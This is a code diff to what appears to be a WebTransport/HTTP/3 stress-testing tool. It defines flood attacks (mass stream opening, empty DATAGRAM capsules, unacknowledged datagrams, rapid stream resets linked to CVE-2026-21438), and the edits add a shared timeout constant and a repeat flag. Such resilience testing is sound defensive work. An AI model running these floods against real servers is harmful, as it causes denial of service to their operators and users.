@@ -3,7 +3,7 @@
 import time
 
 from attack import Attack
-from client import BIDI_SIGNAL, CLOSE_CAPSULE, UNI_TYPE, close_capsule
+from client import BIDI_SIGNAL, CLOSE_CAPSULE, DEADLINE, UNI_TYPE, close_capsule
 from flooder import Flooder, packed
 from peer import data, datagram, max_stream_data, reset_stream, session_request, varint
 
@@ -17,11 +17,11 @@ def session(url, path="/wt/echo", **arguments):
     """A peer with an open session on stream 0."""
     peer = Flooder(url, **arguments)
     peer.put(peer.open(session_request(path)) + max_stream_data(0, 1 << 40))
-    deadline = time.monotonic() + 20
+    deadline = time.monotonic() + DEADLINE
     while not peer.answer:
         peer.poll()
         if time.monotonic() > deadline:
-            raise TimeoutError("no session within 20 s")
+            raise TimeoutError(f"no session within {DEADLINE} s")
     return peer
 
 
@@ -29,7 +29,7 @@ def sessions(content, fin=False, least=0):
     def act(url, until):
         peer = Flooder(url)
         enough = lambda: peer.next_bidi > 4 * least
-        found = peer.flood(packed(lambda: peer.open(content, fin)), until, enough=enough)
+        found = peer.flood(packed(lambda: peer.open(content, fin)), until, enough=enough, repeats=least > 0)
         return found | {"asked": peer.next_bidi // 4}
 
     return act
@@ -86,7 +86,7 @@ def streams(content, behind=lambda peer: b"", least=0):
             frame = peer.open(content)
             return None if frame is None else frame + behind(peer)
 
-        found = peer.flood(packed(one), until, enough=lambda: peer.next_bidi > 4 * least)
+        found = peer.flood(packed(one), until, enough=lambda: peer.next_bidi > 4 * least, repeats=least > 0)
         return found | {"streams": peer.next_bidi // 4}
 
     return act
@@ -132,8 +132,7 @@ ATTACKS = [
     ),
     Attack("wt-capsules-empty", "empty DATAGRAM capsules, each in a DATA frame", capsules(data(b"\0\0") * 250)),
     Attack("wt-datagrams", "datagrams that are echoed", datagrams()),
-    Attack("wt-datagrams-unacknowledged", "the same, without acknowledgements", datagrams(acknowledges=False),
-           close=(None, "H3_EXCESSIVE_LOAD")),
+    Attack("wt-datagrams-unacknowledged", "the same, without acknowledgements", datagrams(acknowledges=False)),
     Attack(
         "wt-streams-reset", "streams that are reset at once (CVE-2026-21438)",
         streams(BIDI + b"hello", lambda peer: reset_stream(peer.opened, WT_CODE_0, len(BIDI) + 5), 2000),
